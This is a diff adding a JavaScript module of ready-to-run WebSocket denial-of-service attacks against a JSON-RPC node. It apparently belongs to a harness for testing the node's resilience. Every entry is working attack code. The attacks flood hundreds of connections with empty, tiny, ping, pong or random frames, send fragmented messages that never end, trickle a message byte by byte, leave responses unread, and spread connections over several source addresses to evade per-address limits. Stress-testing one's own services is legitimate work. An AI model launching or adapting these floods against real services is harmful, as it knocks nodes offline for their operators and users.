@@ -1,0 +1,149 @@
+/** What a client can send by WebSockets to keep a node from serving others: frames that cost more than their bytes. */
+
+import { randomBytes } from 'node:crypto';
+import { requestOf } from '../harness/json-rpc.js';
+import { connectMany, flood } from './client.js';
+
+/** First bytes of frames (RFC 6455, 5.2): a whole text, the first part of one, one that goes on, ping and pong. */
+const TEXT = 0x81;
+const FIRST = 0x01;
+const NEXT = 0x00;
+const PING = 0x89;
+const PONG = 0x8a;
+
+/** Says that a mask follows. */
+const MASKED = 0x80;
+const NO_MASK = Buffer.alloc(4);
+/** Bytes that are written at a time: as many as a node reads. */
+const WRITTEN_BYTES = 64 * 1024;
+/** Fragments of a message that does not end: nearly as many as a node takes. */
+const FRAGMENTS = 4_000;
+/** Addresses that the attackers have who come from several. */
+const ADDRESSES = 16;
+
+const HANDSHAKE = [
+  'GET / HTTP/1.1',
+  'Host: localhost',
+  'Connection: Upgrade',
+  'Upgrade: websocket',
+  'Sec-WebSocket-Version: 13',
+  'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
+  'Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits',
+].join('\r\n');
+
+const shortRequest = requestOf('eth_blockNumber');
+
+/**
+ * @typedef {import('./client.js').Target} Target
+ * @typedef {import('node:net').Socket} Socket
+ */
+
+/**
+ * A frame of a client, whose mask changes nothing.
+ *
+ * @param {number} first
+ * @param {string} [payload] up to 125 bytes
+ */
+function frame(first, payload = '') {
+  const head = Buffer.from([first, MASKED | payload.length]);
+  return Buffer.concat([head, NO_MASK, Buffer.from(payload)]);
+}
+
+/**
+ * As many of a frame as are written at a time.
+ *
+ * @param {Buffer} one
+ */
+function many(one) {
+  const count = Math.floor(WRITTEN_BYTES / one.length);
+  return Buffer.alloc(count * one.length, one);
+}
+
+/**
+ * Opens WebSockets.
+ *
+ * @param {Target} target
+ * @param {number} count
+ * @param {(socket: Socket) => void} use
+ */
+function connectWebSockets(target, count, use) {
+  connectMany(target, count, (socket) => {
+    socket.once('data', () => use(socket));
+    socket.write(`${HANDSHAKE}\r\n\r\n`);
+  });
+}
+
+/**
+ * Opens WebSockets that send the same frame again and again.
+ *
+ * @param {Target} target
+ * @param {number} count
+ * @param {Buffer} one
+ * @param {Buffer} [first] a frame that comes before all others
+ */
+function floodFrames(target, count, one, first = Buffer.alloc(0)) {
+  const frames = many(one);
+  connectWebSockets(target, count, (socket) => flood(socket, frames, first));
+}
+
+/**
+ * A target for attackers of other addresses.
+ *
+ * @param {Target} target
+ * @returns {Target[]}
+ */
+function fromSeveral({ port, from }) {
+  const [last = 0, ...others] = from.split('.').reverse().map(Number);
+  return Array.from({ length: ADDRESSES }, (_, index) => {
+    const address = [last + index, ...others].reverse().join('.');
+    return { port, from: address };
+  });
+}
+
+/** @type {import('./attacks.js').Attacks} */
+export const WEB_SOCKET_ATTACKS = {
+  'WebSockets: empty messages, 1 connection': (target) => floodFrames(target, 1, frame(TEXT)),
+  'WebSockets: empty messages, 300 connections': (target) => floodFrames(target, 300, frame(TEXT)),
+  'WebSockets: tiny requests, 16 connections': (target) => floodFrames(target, 16, frame(TEXT, shortRequest)),
+  'WebSockets: tiny requests, 320 connections of 16 addresses': (target) => {
+    for (const one of fromSeveral(target)) floodFrames(one, 20, frame(TEXT, shortRequest));
+  },
+  'WebSockets: tiny requests whose responses are not read, 64 connections': (target) =>
+    connectWebSockets(target, 64, (socket) => {
+      flood(socket, many(frame(TEXT, shortRequest)));
+      socket.pause();
+    }),
+  'WebSockets: fragments of one byte, 64 connections': (target) =>
+    floodFrames(target, 64, frame(NEXT, ' '), frame(FIRST, ' ')),
+  'WebSockets: messages in 4,000 fragments that do not end, 300 connections': (target) =>
+    connectWebSockets(target, 300, (socket) => {
+      const fragments = Buffer.alloc(FRAGMENTS * frame(NEXT, ' ').length, frame(NEXT, ' '));
+      socket.resume().write(Buffer.concat([frame(FIRST, ' '), fragments]));
+    }),
+  'WebSockets: fragments without a byte, 64 connections': (target) =>
+    floodFrames(target, 64, frame(NEXT), frame(FIRST)),
+  'WebSockets: one message byte by byte, 64 connections': (target) =>
+    connectWebSockets(target, 64, (socket) => {
+      socket
+        .setNoDelay()
+        .resume()
+        .write(Buffer.from([TEXT, MASKED | 127, 0, 0, 0, 0, 0, 64, 0, 0, 0, 0, 0, 0]));
+      const write = () => {
+        if (socket.destroyed) return;
+        for (let count = 0; count < 16; count += 1) socket.write(' ');
+        setImmediate(write);
+      };
+      write();
+    }),
+  'WebSockets: pings, 64 connections': (target) => floodFrames(target, 64, frame(PING, 'x')),
+  'WebSockets: pings whose pongs are not read, 64 connections': (target) =>
+    connectWebSockets(target, 64, (socket) => {
+      flood(socket, many(frame(PING, 'x'.repeat(125))));
+      socket.pause();
+    }),
+  'WebSockets: pongs, 300 connections': (target) => floodFrames(target, 300, frame(PONG)),
+  'WebSockets: garbage, 300 connections': (target) =>
+    connectWebSockets(target, 300, (socket) => flood(socket, randomBytes(WRITTEN_BYTES))),
+  'WebSockets: what comes behind a close, 300 connections': (target) =>
+    connectWebSockets(target, 300, (socket) => flood(socket, many(frame(TEXT)), frame(0x88))),
+};
